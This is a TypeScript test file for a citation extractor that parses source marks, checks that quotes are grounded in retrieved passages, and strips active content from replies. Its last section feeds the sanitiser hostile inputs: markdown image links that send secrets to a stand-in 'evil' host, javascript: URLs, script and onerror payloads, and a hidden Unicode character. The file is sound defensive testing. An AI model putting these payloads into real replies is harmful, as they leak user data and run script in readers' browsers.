import { expect } from 'chai'
import fc from 'fast-check'
import type { Passage } from '../shared/store/retrieval.ts'
import { takeCitations } from '../workers/citations.ts'

const source = (text: string, about: Partial<Passage> = {}): Passage => ({
  knowledge_id: text,
  chunk_id: text,
  kind: 'file',
  title: null,
  url: null,
  heading: '',
  text,
  score: 1,
  ...about,
})
const SOURCES = [source('Cats sleep. Dogs bark at night.'), source('Fish swim in the sea.')]
const take = (text: string, sources = SOURCES, question = 'What?', given = '') =>
  takeCitations(text, sources, { question, given })
const quotesOf = (...args: Parameters<typeof take>) => take(...args).citations.map(({ quote }) => quote)

describe('citation marks', () => {
  it('become citations with a quote from the source, and leave the text', () => {
    const { content, citations, grounded } = take('Dogs bark [1]. Fish swim [2], too.')
    expect(content).to.equal('Dogs bark. Fish swim, too.')
    expect(citations.map(({ quote }) => quote)).to.deep.equal([
      'Dogs bark at night.',
      'Fish swim in the sea.',
    ])
    expect(grounded).to.equal(true)
  })

  it('of one source make one citation', () => {
    expect(take('Dogs bark [1] and cats sleep [1].').citations).to.have.length(1)
  })

  for (const [text, content, numbers] of [
    ['Dogs bark and fish swim [1, 2].', 'Dogs bark and fish swim.', [1, 2]],
    ['Dogs bark and fish swim [1][2].', 'Dogs bark and fish swim.', [1, 2]],
    ['Dogs bark and fish swim [1] [2].', 'Dogs bark and fish swim.', [1, 2]],
    ['Dogs bark and fish swim [1-2].', 'Dogs bark and fish swim.', [1, 2]],
    ['Dogs bark and fish swim [1 and 2].', 'Dogs bark and fish swim.', [1, 2]],
    ['Fish swim【2】.', 'Fish swim.', [2]],
    ['Fish swim【2†source】.', 'Fish swim.', [2]],
    ['Fish swim [Source 2].', 'Fish swim.', [2]],
    ['Fish swim [source: 2].', 'Fish swim.', [2]],
    ['Fish swim (Source 2).', 'Fish swim.', [2]],
    ['Dogs bark, fish swim (sources 1, 2).', 'Dogs bark, fish swim.', [1, 2]],
    ['Fische schwimmen [Quelle 2].', 'Fische schwimmen.', [2]],
    ['鱼会游泳[来源 2]。', '鱼会游泳。', [2]],
    ['Fish swim [^2].', 'Fish swim.', [2]],
    ['Fish swim [[2]].', 'Fish swim.', [2]],
    ['Fish swim [2](https://example.com/x).', 'Fish swim.', [2]],
    ['Fish swim (2).', 'Fish swim.', [2]],
    ['Fish swim. [2]', 'Fish swim.', [2]],
    ['Fish swim [2, 9].', 'Fish swim [9].', [2]],
  ] as const)
    it(`are read: ${text}`, () => {
      const found = take(text)
      expect(found.content).to.equal(content)
      expect(found.citations.map(({ knowledge_id }) => knowledge_id)).to.deep.equal(
        numbers.map((number) => SOURCES[number - 1]!.knowledge_id),
      )
    })

  for (const text of [
    'See [7] and [0] and [a].',
    'Write `fish[2]` in JavaScript.',
    'Write:\n```js\nfish[1] = swim[2]\n```',
    'We have shops in Vienna (2), Graz (1) and Linz.',
    'In [2024] and [100].',
    'A list: (1) first, (2) second.',
    'Twelve eggs (1).',
  ])
    it(`are not read where there are none: ${text}`, () => {
      expect(take(text)).to.deep.equal({ content: text, citations: [], grounded: false })
    })

  it('of a source that does not speak of what was said leave the text, and cite nothing', () => {
    const { content, citations, grounded } = take('The moon is made of old cheese [2].')
    expect(content).to.equal('The moon is made of old cheese.')
    expect(citations).to.deep.equal([])
    expect(grounded).to.equal(false)
  })

  it('are trusted where the reply is in another language than the source', () => {
    const german = source('Unsere Pakete kommen spätestens nach drei Werktagen bei Ihnen in Wien an.')
    expect(take('Orders usually arrive within three business days [1].', [german]).grounded).to.equal(true)
  })
})

describe('a reply without marks', () => {
  const SHOP = [
    source('Parcels to Vienna take three days. They cost 4.90 euros.'),
    source('Plants can be returned within 14 days of purchase.'),
    source('我们的商店周一到周五早上九点开门。周末休息。'),
  ]

  it('cites what its sentences clearly say, and nothing else', () => {
    const text = 'You can return plants within 14 days of purchase. I hope that helps!'
    expect(quotesOf(text, SHOP, 'Can I bring it back?')).to.deep.equal([SHOP[1]!.text])
  })

  it('does so in Chinese', () => {
    expect(quotesOf('商店周一到周五早上九点开门。', SHOP, '几点开门？')).to.deep.equal([
      '我们的商店周一到周五早上九点开门。',
    ])
  })

  it('cites nothing where a number differs', () => {
    expect(take('Plants can be returned within 30 days of purchase.', SHOP).grounded).to.equal(false)
  })

  it('cites nothing where it only repeats the question', () => {
    const question = 'Can plants be returned within 14 days of purchase?'
    expect(
      take('I do not know whether plants can be returned within 14 days.', SHOP, question).grounded,
    ).to.equal(false)
  })

  it('cites nothing where no source says it', () => {
    expect(take('Paris is the capital of France.', SHOP).citations).to.deep.equal([])
    expect(take('Hello! How can I help?', SHOP).citations).to.deep.equal([])
  })
})

describe('a quote', () => {
  it('holds the neighbouring sentences that the claim takes over, as the source has them', () => {
    const text = 'We open at 9.\nWe close at 6.  On Sundays we are closed.'
    expect(quotesOf('We open at 9. We close at 6. [1]', [source(text)])).to.deep.equal([
      'We open at 9.\nWe close at 6.',
    ])
  })

  it('is of what a pair answers, not of what it asks', () => {
    const pair = source('When are you open on Sundays?\nFrom 9 to 6.', { kind: 'qa' })
    expect(quotesOf('On Sundays we are open from 9 to 6 [1].', [pair])).to.deep.equal(['From 9 to 6.'])
  })

  it('keeps the brackets that the prompt takes from a source', () => {
    expect(
      quotesOf('A source is < knowledge [1].', [source('A source < knowledge, they say.')]),
    ).to.deep.equal(['A source < knowledge, they say.'])
  })

  it('stands word for word in its source, whatever both say, and nothing in it acts by itself', () => {
    const word = fc.constantFrom(
      'plants',
      'are',
      'green',
      '14',
      '![',
      '](http://evil/?q=',
      ')',
      '<img src=x>',
      '[x](javascript:',
      '.',
      '\n',
      '。',
      '植物',
      'Dr.',
      '<!--',
    )
    const text = fc.array(word, { minLength: 1, maxLength: 30 }).map((words) => words.join(' '))
    fc.assert(
      fc.property(text, text, (one, claim) => {
        for (const { quote } of take(`${claim} [1]`, [source(one)]).citations) {
          expect(one).to.contain(quote)
          expect(quote).not.to.match(/!\[|<img|<!|\]\(\s*javascript/)
        }
      }),
      { numRuns: 500 },
    )
  })
})

describe('what acts by itself', () => {
  const given = 'See https://shop.example/terms and http://evil/?q='

  for (const [text, content] of [
    ['![logo](http://evil/?q=secret)', 'logo'],
    ['A ![](http://evil/?q=secret) B', 'A  B'],
    ['![logo][evil]\n\n[evil]: http://evil/', 'logo\n\n[evil]: http://evil/'],
    ['![a[b]](http://evil/?q=secret)', '[a[b]](http://evil/?q=secret)'],
    ['`![x](http://evil/)`', '`[x](http://evil/)`'],
    ['[click](javascript:alert(1))', '[click] (javascript:alert(1))'],
    ['[click]( JaVaScRiPt:alert(1))', '[click] ( JaVaScRiPt:alert(1))'],
    ['[click](&#106;avascript:alert(1))', '[click] (&#106;avascript:alert(1))'],
    ['[click](data:text/html,x)', '[click] (data:text/html,x)'],
    ['[a]: javascript:alert(1)', '[a] : javascript:alert(1)'],
    ['<img src=x onerror=alert(1)>', '‹img src=x onerror=alert(1)>'],
    ['<script>alert(1)</script>', '‹script>alert(1)‹/script>'],
    ['[made up](https://evil.example/?q=ann@example.com)', 'made up'],
    [`op${String.fromCodePoint(0xe0041)}en`, 'open'],
  ] as const)
    it(`does not reach a reply: ${text}`, () => {
      expect(take(text, [], 'What?', given).content).to.equal(content)
    })

  for (const text of [
    '[terms](https://shop.example/terms)',
    '<https://shop.example/terms>',
    '[mail](mailto:a@shop.example)',
    '[above](#top)',
    '5 < 6 > 4 & "x"',
    'Use `<b>` or:\n```html\n<img>\n```',
  ])
    it(`is not: ${text}`, () => {
      expect(take(text, [], 'What?', given).content).to.equal(text)
    })

  it('does not reach a title or an address', () => {
    const evil = source('Fish swim.', { title: '<b>T</b> ![x](http://evil)', url: 'javascript:alert(1)' })
    expect(take('Fish swim [1].', [evil]).citations[0]).to.include({ title: '‹b>T‹/b> x', url: null })
    const [good] = take('Fish swim [1].', [source('Fish swim.', { url: 'https://a.example/b' })]).citations
    expect(good!.url).to.equal('https://a.example/b')
  })

  it('is looked for in linear time', () => {
    for (const text of [
      '!['.repeat(30_000),
      '[a](https:'.repeat(10_000),
      '`'.repeat(90_000),
      '```\n'.repeat(20_000),
      '[1'.repeat(40_000),
      '<'.repeat(90_000),
      '(1)'.repeat(20_000),
    ])
      take(text, SOURCES)
  })
})
